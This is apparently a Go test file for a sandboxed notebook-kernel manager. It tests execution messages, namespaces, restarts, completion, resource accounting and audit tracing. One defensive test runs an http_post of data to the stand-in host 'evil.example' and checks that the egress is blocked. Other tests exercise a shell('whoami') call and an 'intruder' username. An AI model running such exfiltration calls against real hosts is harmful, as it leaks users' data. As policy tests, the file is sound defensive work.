package kernel

import (
	"errors"
	"strings"
	"testing"
	"time"

	"repro/internal/jmsg"
	"repro/internal/trace"
	"repro/internal/vfs"
)

var t0 = time.Date(2026, 6, 1, 9, 0, 0, 0, time.UTC)

func newManager(t *testing.T) (*Manager, *vfs.FS, *trace.Ring, *trace.FakeClock) {
	t.Helper()
	clock := trace.NewFakeClock(t0)
	ring := trace.NewRing(10000)
	bus := trace.NewBus(clock)
	bus.Subscribe(ring)
	fs := vfs.New(vfs.WithClock(clock), vfs.WithSink(bus))
	m := NewManager(Config{
		FS: fs, Clock: clock, Sink: bus,
		ConnectionKey: "test-connection-key-0123",
	})
	return m, fs, ring, clock
}

func TestStartAndGet(t *testing.T) {
	m, _, _, _ := newManager(t)
	k := m.Start("minilang", "alice")
	if k.ID == "" || k.State() != StateIdle {
		t.Fatalf("kernel = %+v", k)
	}
	got, err := m.Get(k.ID)
	if err != nil || got != k {
		t.Fatalf("get: %v", err)
	}
	if _, err := m.Get("kern-9999"); !errors.Is(err, ErrNoKernel) {
		t.Fatalf("err = %v", err)
	}
	if m.Count() != 1 || len(m.List()) != 1 {
		t.Fatal("count/list wrong")
	}
}

func TestExecuteMessageFlow(t *testing.T) {
	m, _, _, _ := newManager(t)
	k := m.Start("", "alice")
	res, err := k.Execute(`print("hello")`, nil)
	if err != nil {
		t.Fatal(err)
	}
	if res.Status != "ok" || res.Stdout != "hello\n" || res.ExecutionCount != 1 {
		t.Fatalf("res = %+v", res)
	}
	var types []string
	for _, msg := range res.IOPub {
		types = append(types, msg.Header.MsgType)
	}
	want := "status,execute_input,stream,status"
	if strings.Join(types, ",") != want {
		t.Fatalf("iopub = %v", types)
	}
	if res.Reply.Header.MsgType != jmsg.TypeExecuteReply || res.Reply.Channel != jmsg.ChannelShell {
		t.Fatalf("reply = %+v", res.Reply.Header)
	}
	// Status transitions busy -> idle.
	var st jmsg.StatusContent
	_ = res.IOPub[0].DecodeContent(&st)
	if st.ExecutionState != StateBusy {
		t.Fatalf("first status = %s", st.ExecutionState)
	}
	_ = res.IOPub[len(res.IOPub)-1].DecodeContent(&st)
	if st.ExecutionState != StateIdle {
		t.Fatalf("last status = %s", st.ExecutionState)
	}
}

func TestExecuteErrorFlow(t *testing.T) {
	m, _, _, _ := newManager(t)
	k := m.Start("", "alice")
	res, err := k.Execute(`boom()`, nil)
	if err != nil {
		t.Fatal(err)
	}
	if res.Status != "error" || res.EName != "NameError" {
		t.Fatalf("res = %+v", res)
	}
	found := false
	for _, msg := range res.IOPub {
		if msg.Header.MsgType == jmsg.TypeError {
			found = true
		}
	}
	if !found {
		t.Fatal("no error message on iopub")
	}
}

func TestNamespacePersistsAcrossCells(t *testing.T) {
	m, _, _, _ := newManager(t)
	k := m.Start("", "alice")
	if _, err := k.Execute(`x = 20`, nil); err != nil {
		t.Fatal(err)
	}
	res, err := k.Execute(`print(x + 22)`, nil)
	if err != nil {
		t.Fatal(err)
	}
	if res.Stdout != "42\n" {
		t.Fatalf("stdout = %q", res.Stdout)
	}
	if k.ExecutionCount() != 2 {
		t.Fatalf("exec count = %d", k.ExecutionCount())
	}
}

func TestKernelFSIntegration(t *testing.T) {
	m, fs, _, _ := newManager(t)
	_ = fs.Write("data/in.txt", "setup", []byte("abc"))
	k := m.Start("", "alice")
	res, err := k.Execute(`write_file("data/out.txt", read_file("data/in.txt") + "def")`, nil)
	if err != nil || res.Status != "ok" {
		t.Fatalf("res = %+v err = %v", res, err)
	}
	got, err := fs.Read("data/out.txt", "check")
	if err != nil || string(got) != "abcdef" {
		t.Fatalf("fs content = %q %v", got, err)
	}
}

func TestResourceAccounting(t *testing.T) {
	m, _, ring, _ := newManager(t)
	k := m.Start("", "alice")
	if _, err := k.Execute(`spin(3000)
write_file("f", "0123456789")`, nil); err != nil {
		t.Fatal(err)
	}
	u := k.Usage()
	if u.CPUMillis != 3000 || u.BytesWritten != 10 || u.Executions != 1 {
		t.Fatalf("usage = %+v", u)
	}
	res := ring.Filter(func(e trace.Event) bool { return e.Kind == trace.KindSysRes })
	if len(res) != 1 || res[0].CPUMillis != 3000 {
		t.Fatalf("sys_res = %+v", res)
	}
}

func TestSpinAdvancesFakeClock(t *testing.T) {
	m, _, _, clock := newManager(t)
	k := m.Start("", "alice")
	before := clock.Now()
	if _, err := k.Execute(`spin(2500)`, nil); err != nil {
		t.Fatal(err)
	}
	if got := clock.Now().Sub(before); got != 2500*time.Millisecond {
		t.Fatalf("clock advanced %v", got)
	}
}

func TestShellPolicy(t *testing.T) {
	m, _, ring, _ := newManager(t) // ShellEnabled=false
	k := m.Start("", "alice")
	res, _ := k.Execute(`shell("whoami")`, nil)
	if res.Status != "error" {
		t.Fatal("shell allowed under deny policy")
	}
	evs := ring.Filter(func(e trace.Event) bool { return e.Kind == trace.KindTermCmd })
	if len(evs) != 1 || evs[0].Success {
		t.Fatalf("term events = %+v", evs)
	}
}

func TestShellEnabled(t *testing.T) {
	clock := trace.NewFakeClock(t0)
	m := NewManager(Config{Clock: clock, ShellEnabled: true})
	k := m.Start("", "alice")
	res, err := k.Execute(`print(shell("whoami"))`, nil)
	if err != nil || res.Status != "ok" {
		t.Fatalf("res = %+v err=%v", res, err)
	}
	if !strings.Contains(res.Stdout, "jovyan") {
		t.Fatalf("stdout = %q", res.Stdout)
	}
}

func TestEgressDeniedByDefault(t *testing.T) {
	m, _, ring, _ := newManager(t)
	k := m.Start("", "alice")
	res, _ := k.Execute(`http_post("http://evil.example/x", "data")`, nil)
	if res.Status != "error" {
		t.Fatal("egress allowed with default gateway")
	}
	evs := ring.Filter(func(e trace.Event) bool { return e.Kind == trace.KindNetOp })
	if len(evs) != 1 || evs[0].Success {
		t.Fatalf("net events = %+v", evs)
	}
}

func TestHandleExecuteRequestMessage(t *testing.T) {
	m, _, _, _ := newManager(t)
	k := m.Start("", "alice")
	req, err := jmsg.New(jmsg.TypeExecuteRequest, "m1", "sess", "alice", t0,
		jmsg.ExecuteRequest{Code: `print(1+1)`})
	if err != nil {
		t.Fatal(err)
	}
	replies, err := k.HandleMessage(req)
	if err != nil {
		t.Fatal(err)
	}
	last := replies[len(replies)-1]
	if last.Header.MsgType != jmsg.TypeExecuteReply {
		t.Fatalf("last = %s", last.Header.MsgType)
	}
	if last.ParentHeader.MsgID != "m1" {
		t.Fatal("reply not threaded to parent")
	}
	for _, r := range replies[:len(replies)-1] {
		if ch, _ := jmsg.ChannelFor(r.Header.MsgType); r.Channel != ch {
			t.Fatalf("msg %s on channel %s", r.Header.MsgType, r.Channel)
		}
	}
}

func TestHandleKernelInfo(t *testing.T) {
	m, _, _, _ := newManager(t)
	k := m.Start("", "alice")
	req, _ := jmsg.New(jmsg.TypeKernelInfoReq, "m1", "sess", "alice", t0, map[string]any{})
	replies, err := k.HandleMessage(req)
	if err != nil || len(replies) != 1 {
		t.Fatalf("replies = %v err = %v", replies, err)
	}
	var info jmsg.KernelInfoReply
	if err := replies[0].DecodeContent(&info); err != nil {
		t.Fatal(err)
	}
	if info.Implementation != "minilang" || info.ProtocolVersion != jmsg.ProtocolVersion {
		t.Fatalf("info = %+v", info)
	}
}

func TestShutdownLifecycle(t *testing.T) {
	m, _, _, _ := newManager(t)
	k := m.Start("", "alice")
	req, _ := jmsg.New(jmsg.TypeShutdownRequest, "m1", "sess", "alice", t0, map[string]any{})
	if _, err := k.HandleMessage(req); err != nil {
		t.Fatal(err)
	}
	if k.State() != StateDead {
		t.Fatalf("state = %s", k.State())
	}
	if _, err := k.Execute(`print(1)`, nil); !errors.Is(err, ErrKernelDead) {
		t.Fatalf("err = %v", err)
	}
	if err := m.Shutdown(k.ID); err != nil {
		t.Fatal(err)
	}
	if m.Count() != 0 {
		t.Fatal("kernel not removed")
	}
}

func TestUnhandledMessageType(t *testing.T) {
	m, _, _, _ := newManager(t)
	k := m.Start("", "alice")
	req, _ := jmsg.New("martian_request", "m1", "sess", "alice", t0, map[string]any{})
	if _, err := k.HandleMessage(req); err == nil {
		t.Fatal("martian message handled")
	}
}

func TestExecHookOrdering(t *testing.T) {
	clock := trace.NewFakeClock(t0)
	var calls []string
	fs := vfs.New(vfs.WithClock(clock), vfs.WithSink(trace.SinkFunc(func(e trace.Event) {
		if e.Kind == trace.KindFileOp {
			calls = append(calls, "op:"+e.Op)
		}
	})))
	m := NewManager(Config{
		FS: fs, Clock: clock,
		ExecHook: func(kernelID, user, code string) { calls = append(calls, "exec") },
	})
	k := m.Start("", "alice")
	if _, err := k.Execute(`write_file("x", "1")`, nil); err != nil {
		t.Fatal(err)
	}
	if len(calls) < 2 || calls[0] != "exec" {
		t.Fatalf("ordering = %v (exec hook must precede ops)", calls)
	}
}

func TestConnectionInfoPorts(t *testing.T) {
	m, _, _, _ := newManager(t)
	k1 := m.Start("", "a")
	k2 := m.Start("", "b")
	if k1.ConnInfo.ShellPort == k2.ConnInfo.ShellPort {
		t.Fatal("kernels share ports")
	}
	if k1.ConnInfo.Key == "" {
		t.Fatal("connection key empty despite config")
	}
	if k1.Signer().Keyless() {
		t.Fatal("signer keyless")
	}
}

func TestRestartClearsNamespace(t *testing.T) {
	m, _, _, _ := newManager(t)
	k := m.Start("", "alice")
	if _, err := k.Execute(`secret = "s3cr3t"`, nil); err != nil {
		t.Fatal(err)
	}
	if err := m.Restart(k.ID); err != nil {
		t.Fatal(err)
	}
	res, err := k.Execute(`print(secret)`, nil)
	if err != nil {
		t.Fatal(err)
	}
	if res.Status != "error" || res.EName != "NameError" {
		t.Fatalf("namespace survived restart: %+v", res)
	}
	if k.ExecutionCount() != 1 {
		t.Fatalf("execution count = %d after restart", k.ExecutionCount())
	}
	if err := m.Restart("kern-9999"); !errors.Is(err, ErrNoKernel) {
		t.Fatalf("restart missing kernel: %v", err)
	}
}

func TestCompleteRequest(t *testing.T) {
	m, _, _, _ := newManager(t)
	k := m.Start("", "alice")
	if _, err := k.Execute(`reactor_temp = 451`, nil); err != nil {
		t.Fatal(err)
	}
	req, _ := jmsg.New(jmsg.TypeCompleteRequest, "m1", "sess", "alice", t0,
		map[string]any{"code": "print(rea", "cursor_pos": 9})
	replies, err := k.HandleMessage(req)
	if err != nil || len(replies) != 1 {
		t.Fatalf("replies = %v err = %v", replies, err)
	}
	var content struct {
		Matches     []string `json:"matches"`
		CursorStart int      `json:"cursor_start"`
	}
	if err := replies[0].DecodeContent(&content); err != nil {
		t.Fatal(err)
	}
	found := false
	for _, mt := range content.Matches {
		if mt == "reactor_temp" {
			found = true
		}
		if mt == "read_file" {
			// builtin prefix match also expected
		}
	}
	if !found || content.CursorStart != 6 {
		t.Fatalf("content = %+v", content)
	}
}

func TestCompleteIncludesBuiltins(t *testing.T) {
	m, _, _, _ := newManager(t)
	k := m.Start("", "alice")
	req, _ := jmsg.New(jmsg.TypeCompleteRequest, "m1", "sess", "alice", t0,
		map[string]any{"code": "http", "cursor_pos": 4})
	replies, err := k.HandleMessage(req)
	if err != nil {
		t.Fatal(err)
	}
	var content struct {
		Matches []string `json:"matches"`
	}
	_ = replies[0].DecodeContent(&content)
	want := map[string]bool{"http_get": false, "http_post": false}
	for _, mt := range content.Matches {
		if _, ok := want[mt]; ok {
			want[mt] = true
		}
	}
	for name, seen := range want {
		if !seen {
			t.Errorf("completion missing builtin %s: %v", name, content.Matches)
		}
	}
}

func TestInspectRequest(t *testing.T) {
	m, _, _, _ := newManager(t)
	k := m.Start("", "alice")
	if _, err := k.Execute(`answer = 42`, nil); err != nil {
		t.Fatal(err)
	}
	req, _ := jmsg.New(jmsg.TypeInspectRequest, "m1", "sess", "alice", t0,
		map[string]any{"code": "print(answer)", "cursor_pos": 9})
	replies, err := k.HandleMessage(req)
	if err != nil {
		t.Fatal(err)
	}
	var content struct {
		Found bool              `json:"found"`
		Data  map[string]string `json:"data"`
	}
	if err := replies[0].DecodeContent(&content); err != nil {
		t.Fatal(err)
	}
	if !content.Found || !strings.Contains(content.Data["text/plain"], "42") {
		t.Fatalf("content = %+v", content)
	}
	// Unknown name: found=false, no error.
	req2, _ := jmsg.New(jmsg.TypeInspectRequest, "m2", "sess", "alice", t0,
		map[string]any{"code": "mystery", "cursor_pos": 3})
	replies, _ = k.HandleMessage(req2)
	_ = replies[0].DecodeContent(&content)
	if content.Found {
		t.Fatal("unknown name found")
	}
}

func TestExecEventEmitted(t *testing.T) {
	m, _, ring, _ := newManager(t)
	k := m.Start("", "carol")
	code := `print("tracked")`
	if _, err := k.Execute(code, nil); err != nil {
		t.Fatal(err)
	}
	evs := ring.Filter(func(e trace.Event) bool { return e.Kind == trace.KindExec })
	if len(evs) != 1 || evs[0].Code != code || evs[0].User != "carol" || evs[0].KernelID != k.ID {
		t.Fatalf("exec events = %+v", evs)
	}
}

func TestParentUsernamePropagates(t *testing.T) {
	m, _, ring, _ := newManager(t)
	k := m.Start("", "owner")
	req, _ := jmsg.New(jmsg.TypeExecuteRequest, "m1", "sess-9", "intruder", t0,
		jmsg.ExecuteRequest{Code: `print(1)`})
	if _, err := k.HandleMessage(req); err != nil {
		t.Fatal(err)
	}
	evs := ring.Filter(func(e trace.Event) bool { return e.Kind == trace.KindExec })
	if len(evs) != 1 || evs[0].User != "intruder" || evs[0].Session != "sess-9" {
		t.Fatalf("attribution = %+v", evs)
	}
}
